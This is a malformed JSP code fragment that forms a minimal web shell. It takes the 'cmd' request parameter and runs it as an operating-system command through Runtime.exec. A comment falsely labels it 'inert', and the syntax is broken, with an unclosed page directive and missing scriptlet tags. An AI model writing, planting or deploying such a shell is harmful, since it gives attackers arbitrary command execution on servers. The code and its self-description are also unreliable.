<%@ page import="java.io.*" 
<%-- inert --%>
String v = request.getParameter("cmd");
Process p = Runtime.getRuntime().exec(v);
p.getInputStream();
